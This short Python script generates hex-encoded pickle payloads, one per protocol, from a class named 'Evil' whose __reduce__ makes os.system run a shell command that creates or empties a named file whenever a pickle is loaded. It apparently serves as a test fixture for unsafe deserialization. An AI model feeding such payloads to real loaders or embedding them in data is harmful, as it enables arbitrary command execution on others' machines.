"""For the file named on standard input: pickles, one of each protocol on a line, that make it when they are loaded; none is loaded here."""

import os
import pickle
import sys

file = sys.stdin.readline().strip()


class Evil:
    def __reduce__(self):
        return os.system, (f"echo > '{file}'",)


for protocol in range(6):
    print(pickle.dumps(Evil(), protocol).hex())
